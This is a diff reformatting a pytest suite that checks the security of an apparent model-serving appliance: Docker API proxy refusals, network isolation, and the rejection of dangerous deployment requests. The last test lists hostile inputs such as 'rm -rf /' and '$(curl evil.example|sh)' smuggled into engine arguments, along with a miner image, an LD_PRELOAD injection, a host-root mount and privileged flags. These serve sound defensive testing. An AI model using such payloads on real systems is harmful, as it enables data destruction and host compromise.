@@ -50,19 +50,32 @@ def appliance() -> Iterator[Stack]:
         leftovers = s.managed_containers()
         if leftovers:
             subprocess.run(["docker", "rm", "-f", *leftovers], capture_output=True)
-        subprocess.run(["docker", "volume", "rm", "-f", f"{project}-model-cache", f"{project}-compile-cache"],
-                       capture_output=True)
+        subprocess.run(
+            ["docker", "volume", "rm", "-f", f"{project}-model-cache", f"{project}-compile-cache"],
+            capture_output=True,
+        )
         subprocess.run(["docker", "network", "rm", f"{project}-engines"], capture_output=True)
     assert not refused, f"the Docker API policy refused the worker's own calls: {refused}"
 
 
 def containers_of(project: str) -> list[dict]:
-    ids = subprocess.run(["docker", "ps", "-q", "--filter", f"label=com.docker.compose.project={project}"],
-                         capture_output=True, text=True, check=True).stdout.split()
-    ids += subprocess.run(["docker", "ps", "-q", "--filter", f"label=tollgate.stack={project}"],
-                          capture_output=True, text=True, check=True).stdout.split()
-    return json.loads(subprocess.run(["docker", "inspect", *set(ids)], capture_output=True, text=True,
-                                     check=True).stdout)
+    ids = subprocess.run(
+        ["docker", "ps", "-q", "--filter", f"label=com.docker.compose.project={project}"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.split()
+    ids += subprocess.run(
+        ["docker", "ps", "-q", "--filter", f"label=tollgate.stack={project}"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.split()
+    return json.loads(
+        subprocess.run(
+            ["docker", "inspect", *set(ids)], capture_output=True, text=True, check=True
+        ).stdout
+    )
 
 
 def service(c: dict) -> str:
@@ -70,13 +83,33 @@ def service(c: dict) -> str:
 
 
 @pytest.mark.slow
-def test_worker_killed_during_a_deploy_converges_without_duplicates_or_orphans(appliance: Stack) -> None:
+def test_worker_killed_during_a_deploy_converges_without_duplicates_or_orphans(
+    appliance: Stack,
+) -> None:
     api = appliance.api()
-    post(api, "/api/v1/models/", {"served_name": "sim-kill", "source": "tollgate/sim",
-                                   "params_billions": "0.5", "context_length": 8192})
-    post(api, "/api/v1/deployments/", {
-        "name": "killme", "model": "sim-kill", "node": "local", "image": SIM_IMAGE, "profile": "simulator",
-        "replicas": 2, "env": {"SIM_LOAD_SECONDS": "6"}})
+    post(
+        api,
+        "/api/v1/models/",
+        {
+            "served_name": "sim-kill",
+            "source": "tollgate/sim",
+            "params_billions": "0.5",
+            "context_length": 8192,
+        },
+    )
+    post(
+        api,
+        "/api/v1/deployments/",
+        {
+            "name": "killme",
+            "model": "sim-kill",
+            "node": "local",
+            "image": SIM_IMAGE,
+            "profile": "simulator",
+            "replicas": 2,
+            "env": {"SIM_LOAD_SECONDS": "6"},
+        },
+    )
     deadline = time.monotonic() + 120
     while not appliance.managed_containers():  # the worker is creating/loading the engines
         assert time.monotonic() < deadline, "the deploy never created a container"
@@ -95,11 +128,15 @@ def test_worker_killed_during_a_deploy_converges_without_duplicates_or_orphans(a
     assert state.get("state") == "ready", state
     time.sleep(15)  # a few reconcile passes: nothing more is started or removed
     engines = [c for c in containers_of(appliance.project) if service(c) == "engine"]
-    labels = sorted((c["Config"]["Labels"]["tollgate.deployment"], c["Config"]["Labels"]["tollgate.replica"])
-                    for c in engines)
+    labels = sorted(
+        (c["Config"]["Labels"]["tollgate.deployment"], c["Config"]["Labels"]["tollgate.replica"])
+        for c in engines
+    )
     assert len(labels) == 2 and len(set(labels)) == 2, labels  # one container per replica
     assert all(c["State"]["Running"] for c in engines)
-    names = {r["container_name"] for r in api.get("/api/v1/deployments/killme/").json()["replica_set"]}
+    names = {
+        r["container_name"] for r in api.get("/api/v1/deployments/killme/").json()["replica_set"]
+    }
     assert names == {c["Name"].lstrip("/") for c in engines}  # no orphan, none unaccounted for
 
 
@@ -173,26 +210,51 @@ print(json.dumps({
 """
 
 
-def test_docker_api_refuses_the_worker_what_it_does_not_need_and_web_has_no_socket(appliance: Stack) -> None:
+def test_docker_api_refuses_the_worker_what_it_does_not_need_and_web_has_no_socket(
+    appliance: Stack,
+) -> None:
     """From inside the worker (all a compromised worker has), the Docker API policy refuses
     every call outside the engine lifecycle and every privilege, however the body spells it,
     and nothing is created."""
-    volumes = set(subprocess.run(["docker", "volume", "ls", "-q"], capture_output=True, text=True).stdout.split())
-    out = appliance.compose("exec", "-T", "worker", "python3", "-c", PROBE.replace("{stack}", appliance.project))
+    volumes = set(
+        subprocess.run(
+            ["docker", "volume", "ls", "-q"], capture_output=True, text=True
+        ).stdout.split()
+    )
+    out = appliance.compose(
+        "exec", "-T", "worker", "python3", "-c", PROBE.replace("{stack}", appliance.project)
+    )
     answers = json.loads(out.strip().splitlines()[-1])
     assert answers.pop("list") == 200  # the proxy works for what the worker needs
     allowed = {name: status for name, status in answers.items() if status != 403}
     assert not allowed, f"the Docker API policy let these through: {allowed}"
-    probe = subprocess.run(["docker", "ps", "-aq", "--filter", f"name={appliance.project}-probe"],
-                           capture_output=True, text=True, check=True).stdout
+    probe = subprocess.run(
+        ["docker", "ps", "-aq", "--filter", f"name={appliance.project}-probe"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
     assert probe == ""
-    assert set(subprocess.run(["docker", "volume", "ls", "-q"], capture_output=True, text=True).stdout.split()) <= volumes
+    assert (
+        set(
+            subprocess.run(
+                ["docker", "volume", "ls", "-q"], capture_output=True, text=True
+            ).stdout.split()
+        )
+        <= volumes
+    )
     for svc in ("web", "usage", "beat"):
-        out = appliance.compose("exec", "-T", svc, "python3", "-c",
-                                "import os, socket\n"
-                                "print('sock' if os.path.exists('/var/run/docker.sock') else 'nosock')\n"
-                                "try:\n socket.create_connection(('docker-proxy', 2375), 3); print('reached')\n"
-                                "except OSError: print('unreachable')")
+        out = appliance.compose(
+            "exec",
+            "-T",
+            svc,
+            "python3",
+            "-c",
+            "import os, socket\n"
+            "print('sock' if os.path.exists('/var/run/docker.sock') else 'nosock')\n"
+            "try:\n socket.create_connection(('docker-proxy', 2375), 3); print('reached')\n"
+            "except OSError: print('unreachable')",
+        )
         assert out.split() == ["nosock", "unreachable"], (svc, out)
 
 
@@ -202,74 +264,149 @@ def test_from_the_tenant_network_only_the_web_port_is_reachable(appliance: Stack
     network (a probe container on a network this test creates) cannot open a connection to
     PostgreSQL, Redis, an engine or the Docker proxy; /metrics needs its token."""
     api = appliance.api()
-    post(api, "/api/v1/models/", {"served_name": "sim-net", "source": "tollgate/sim",
-                                   "params_billions": "0.5", "context_length": 8192})
-    post(api, "/api/v1/deployments/", {"name": "net", "model": "sim-net", "node": "local",
-                                        "image": SIM_IMAGE, "profile": "simulator", "replicas": 1})
+    post(
+        api,
+        "/api/v1/models/",
+        {
+            "served_name": "sim-net",
+            "source": "tollgate/sim",
+            "params_billions": "0.5",
+            "context_length": 8192,
+        },
+    )
+    post(
+        api,
+        "/api/v1/deployments/",
+        {
+            "name": "net",
+            "model": "sim-net",
+            "node": "local",
+            "image": SIM_IMAGE,
+            "profile": "simulator",
+            "replicas": 1,
+        },
+    )
     deadline = time.monotonic() + 180
     while api.get("/api/v1/deployments/net/").json()["state"] != "ready":
         assert time.monotonic() < deadline
         time.sleep(1)
     every = containers_of(appliance.project)
-    published = {service(c): sorted(p for p, b in (c["HostConfig"]["PortBindings"] or {}).items() if b)
-                 for c in every}
+    published = {
+        service(c): sorted(p for p, b in (c["HostConfig"]["PortBindings"] or {}).items() if b)
+        for c in every
+    }
     assert {s: p for s, p in published.items() if p} == {"web": ["8000/tcp"]}, published
     targets = []
     for c in every:
         ports = {"db": 5432, "redis": 6379, "docker-proxy": 2375, "engine": 8000}.get(service(c))
         if ports:
-            targets += [(service(c), net["IPAddress"], ports) for net in c["NetworkSettings"]["Networks"].values()
-                        if net["IPAddress"]]
+            targets += [
+                (service(c), net["IPAddress"], ports)
+                for net in c["NetworkSettings"]["Networks"].values()
+                if net["IPAddress"]
+            ]
     assert {t[0] for t in targets} == {"db", "redis", "docker-proxy", "engine"}, targets
     net = f"{appliance.project}-tenant"
     subprocess.run(["docker", "network", "create", net], check=True, capture_output=True)
     try:
-        code = ("import socket, json, sys\nres = {}\n"
-                f"for name, ip, port in {targets!r}:\n"
-                "    try:\n        socket.create_connection((ip, port), 3).close(); res[name + ip] = 'open'\n"
-                "    except OSError: res[name + ip] = 'closed'\nprint(json.dumps(res))")
-        out = subprocess.run(["docker", "run", "--rm", "--network", net, "--label",
-                              f"tollgate.stack={appliance.project}", "--entrypoint", "python3", SIM_IMAGE, "-c", code],
-                             capture_output=True, text=True, timeout=120)
+        code = (
+            "import socket, json, sys\nres = {}\n"
+            f"for name, ip, port in {targets!r}:\n"
+            "    try:\n        socket.create_connection((ip, port), 3).close(); res[name + ip] = 'open'\n"
+            "    except OSError: res[name + ip] = 'closed'\nprint(json.dumps(res))"
+        )
+        out = subprocess.run(
+            [
+                "docker",
+                "run",
+                "--rm",
+                "--network",
+                net,
+                "--label",
+                f"tollgate.stack={appliance.project}",
+                "--entrypoint",
+                "python3",
+                SIM_IMAGE,
+                "-c",
+                code,
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         reach = json.loads(out.stdout.strip().splitlines()[-1])
         assert set(reach.values()) == {"closed"}, reach
     finally:
         subprocess.run(["docker", "network", "rm", net], capture_output=True)
     assert httpx.get(f"{appliance.url}/metrics").status_code == 404
-    assert httpx.get(f"{appliance.url}/metrics", headers={"Authorization": "Bearer guess"}).status_code == 404
+    assert (
+        httpx.get(f"{appliance.url}/metrics", headers={"Authorization": "Bearer guess"}).status_code
+        == 404
+    )
 
 
 @pytest.mark.django_db(transaction=True)
 def test_dangerous_deployments_are_400_and_create_no_container(
-    docker_node, sim_model, stack: str, eager_tasks: None, client_for: Callable, root: object,  # noqa: F811
+    docker_node,
+    sim_model,
+    stack: str,
+    eager_tasks: None,
+    client_for: Callable,
+    root: object,  # noqa: F811
 ) -> None:
     api = client_for(root)
-    base = {"name": "bad", "model": sim_model.served_name, "node": docker_node.name, "image": SIM_IMAGE,
-            "engine_args": {"max-num-seqs": 4}, "env": {"SIM_LOAD_SECONDS": "0.2"}}
+    base = {
+        "name": "bad",
+        "model": sim_model.served_name,
+        "node": docker_node.name,
+        "image": SIM_IMAGE,
+        "engine_args": {"max-num-seqs": 4},
+        "env": {"SIM_LOAD_SECONDS": "0.2"},
+    }
     bodies = {
         "trust-remote-code": {**base, "engine_args": {"trust-remote-code": True}},
         "host": {**base, "engine_args": {"host": "0.0.0.0"}},
         "port": {**base, "engine_args": {"port": 1}},
         "shell in a value": {**base, "engine_args": {"max-model-len": "4096; rm -rf /"}},
-        "shell in a value 2": {**base, "engine_args": {"served-model-name": "$(curl evil.example|sh)"}},
+        "shell in a value 2": {
+            **base,
+            "engine_args": {"served-model-name": "$(curl evil.example|sh)"},
+        },
         "unknown flag": {**base, "engine_args": {"--enable-shell": True}},
         "unlisted image": {**base, "image": "evil/miner:latest"},
         "other registry": {**base, "image": "evil.example/tollgate/engine-sim:latest"},
         "lookalike repo": {**base, "image": "tollgate/engine-sim-evil:latest"},
         "download dir": {**base, "engine_args": {"download-dir": "/etc"}},
         "env LD_PRELOAD": {**base, "env": {"LD_PRELOAD": "/tmp/x.so"}},
-        "host mount": {**base, "volumes": ["/:/host"], "mounts": [{"type": "bind", "source": "/", "target": "/h"}]},
-        "privileged": {**base, "privileged": True, "cap_add": ["SYS_ADMIN"], "network_mode": "host"},
+        "host mount": {
+            **base,
+            "volumes": ["/:/host"],
+            "mounts": [{"type": "bind", "source": "/", "target": "/h"}],
+        },
+        "privileged": {
+            **base,
+            "privileged": True,
+            "cap_add": ["SYS_ADMIN"],
+            "network_mode": "host",
+        },
     }
     # Each under its own name, so no refusal is merely "that name is taken".
-    answers = {name: api.post("/api/v1/deployments/", {**body, "name": f"bad{i}"}, format="json")
-               for i, (name, body) in enumerate(bodies.items())}
-    accepted = {name: (a.status_code, a.content[:120]) for name, a in answers.items() if a.status_code != 400}
+    answers = {
+        name: api.post("/api/v1/deployments/", {**body, "name": f"bad{i}"}, format="json")
+        for i, (name, body) in enumerate(bodies.items())
+    }
+    accepted = {
+        name: (a.status_code, a.content[:120])
+        for name, a in answers.items()
+        if a.status_code != 400
+    }
     client = docker.from_env()
     created = client.containers.list(all=True, filters={"label": f"tollgate.stack={stack}"})
     for container in created:  # whatever was accepted must at least not have got its way
         host = container.attrs["HostConfig"]
         assert not host["Privileged"] and not host.get("CapAdd") and host["NetworkMode"] != "host"
-        assert not [m for m in container.attrs["Mounts"] if m["Type"] == "bind"], container.attrs["Mounts"]
+        assert not [m for m in container.attrs["Mounts"] if m["Type"] == "bind"], container.attrs[
+            "Mounts"
+        ]
     assert not accepted, f"accepted: {accepted}"
     assert created == [] and not Deployment.objects.exists()
